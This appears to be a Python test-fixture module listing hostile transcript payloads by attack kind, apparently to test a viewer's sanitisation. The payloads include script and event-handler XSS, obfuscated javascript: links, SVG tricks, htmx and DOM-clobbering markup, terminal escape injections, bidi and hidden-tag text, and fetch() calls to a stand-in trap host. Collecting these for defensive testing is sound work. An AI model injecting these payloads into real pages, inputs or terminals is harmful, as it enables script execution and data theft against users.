"""The contents of hostile transcripts by kind of attack, each with a harmless twin.

`TRAP` stands for the address of a server that nothing may ever contact.
"""

TRAP = "http://trap.invalid"

ESC = "\x1b"
RUN = f"fetch('{TRAP}/ran');alert(1)"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<script src={TRAP}/x.js></script>",
    f"<img src=x onerror=\"{RUN}\"><img src={TRAP}/p.png srcset='{TRAP}/q.png 1x'>",
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe><body onload={RUN}>',
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={RUN}><video poster={TRAP}/v autoplay></video>",
    f"<meta http-equiv=refresh content='0;url={TRAP}'><base href={TRAP}/>",
    f"<link rel=stylesheet href={TRAP}/x.css><style>@import '{TRAP}/y.css';</style>",
    f"</div></article></main></script></textarea></title><script>{RUN}</script>",
    f'"><img src=x onerror={RUN}>',
    f"' autofocus onfocus='{RUN}",
    f"![picture]({TRAP}/tracker.png) ![svg](data:image/svg+xml,<svg/onload={RUN}>)",
    "${alert(1)} {{ 7|add:7 }} {% now 'Y' %} &lt;script&gt;alert(1)&lt;/script&gt;",
]
DRAWINGS = [
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f"<svg><use href='{TRAP}/icons.svg#x'></use><image href={TRAP}/i.png></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><foreignObject><iframe src={TRAP}></iframe></foreignObject></svg>",
    f"<svg><style>*{{background:url({TRAP})}}</style></svg>",
    f"```svg\n<svg onload={RUN}>\n```",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
]
_SPELLINGS = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java&#9;script:",
    "java&Tab;script:",
    "&#106;avascript:",
    "javascript&colon;",
    "javascript&#58;",
    "%6aavascript:",
    "\x01javascript:",
    "\u200bjavascript:",
    "view-source:javascript:",
    "data:text/html,<script>",
    "vbscript:",
    "//trap.invalid/",
    "/attack?",
    "../../sign-out?",
]
LINKS = [
    form.format(address=f"{spelling}alert(1)")
    for spelling in _SPELLINGS
    for form in (
        "[x]({address})",
        "[x](<{address}>)",
        "<{address}>",
        "[x][1]\n\n[1]: {address}",
        "<a href='{address}'>x</a>",
    )
]
HTMX = [
    "<div hx-get=/attack hx-trigger=load>x</div>",
    "<div data-hx-get=/attack data-hx-trigger='load delay:1ms'>x</div>",
    "<form hx-post=/attack hx-trigger='load, click'><input name=x></form>",
    "<div hx-on:load='alert(1)' hx-on::load='alert(1)'>x</div>",
    "<div hx-ext=eval hx-vals='js:{x:alert(1)}' hx-get=/attack>x</div>",
    "<div hx-swap-oob=true id=toasts>x</div>",
    "<div hx-swap-oob='beforeend:body'><div hx-get=/attack hx-trigger=load></div></div>",
    "<div hx-disable=false><div hx-get=/attack hx-trigger=every-1s>x</div></div>",
    "<div ws-connect=/attack sse-connect=/attack>x</div>",
    "<button data-action=undo data-operation=o1 popovertarget=export>x</button>",
    "<template><div hx-get=/attack hx-trigger=load></div></template>",
    "<body hx-boost=true hx-headers='{\"x\":1}'><a href=/attack>x</a>",
]
SHADOWS = [
    "<div id=thread-facts data-head=999 data-total=0 data-reload=1></div>",
    "<input name=csrfmiddlewaretoken value=stolen><form id=import action=/attack></form>",
    "<article id=n-m0 data-key=m0 class=row>x</article><article id=n-o1>x</article>",
    "<div id=feed data-session=x></div><section id=dialog></section>",
    "<dialog id=dialog open>x</dialog><p id=toasts></p><p id=said></p><p id=live></p>",
    "<a id=body name=body></a><img name=getElementById><form name=forms></form>",
    "<form id=htmx><input name=config></form><a id=htmx name=swap></a>",
    "<a id=main href=#>x</a><a name=location href=/attack>x</a><div id=meter></div>",
    "# thread-facts {#thread-facts}\n\n[main]: #main\n\n[^1]: note {id=feed}",
]
TERMINAL = [
    f"{ESC}]8;;javascript:alert(1){ESC}\\click{ESC}]8;;{ESC}\\",
    f"{ESC}]8;;{TRAP}\x07click{ESC}]8;;\x07",
    f"{ESC}]0;<script>{RUN}</script>\x07{ESC}]52;c;ZXZpbA==\x07",
    f"{ESC}]1337;File=inline=1:AAAA\x07{ESC}P+q544e{ESC}\\{ESC}_app{ESC}\\",
    f"{ESC}[31m<script>{RUN}</script>{ESC}[0m{ESC}[8mconcealed{ESC}[0m",
    f"{ESC}[38;5;999999m{ESC}[48;2;1m{ESC}[;;;;m{ESC}[" + "1;" * 500 + "mx",
    f"{ESC}[2J{ESC}[H{ESC}[?1049h{ESC}[6n{ESC}c{ESC}[9999999C<b>",
    "\x9b31m<b>\x9d0;title\x07\x90dcs\x9c safe\roverwritten <scr\b\b\bscript>",
    f"{ESC}]unterminated <script>{RUN}</script>",
]
BIDI = [
    "\u202egnp.exe\u202c \u2066\u2067\u2068\u2069 \u200e\u200f\u061c",
    "if (a) {\u202e } \u2066// check\u2069 \u2066",
    "\u202e" * 50 + "all that follows is turned",
    "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all <script>"),
    "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u3164 \u2028\u2029\u0085",
]
NULS = [
    "\x00",
    "a\x00b<script>\x00</script>",
    "<\x00script>alert(1)</script>",
    "\x01\x08\x0b\x7f",
]
SURROGATES = [
    "\ud800",
    "\udfff\ud800",
    "x\udc41<script>alert(1)</script>",
    "\ud83d alone",
]

ATTACKS = {
    "scripts": SCRIPTS,
    "drawings": DRAWINGS,
    "links": LINKS,
    "htmx": HTMX,
    "shadows": SHADOWS,
    "terminal": TERMINAL,
    "bidi": BIDI,
    "nul": NULS,
    "surrogates": SURROGATES,
}
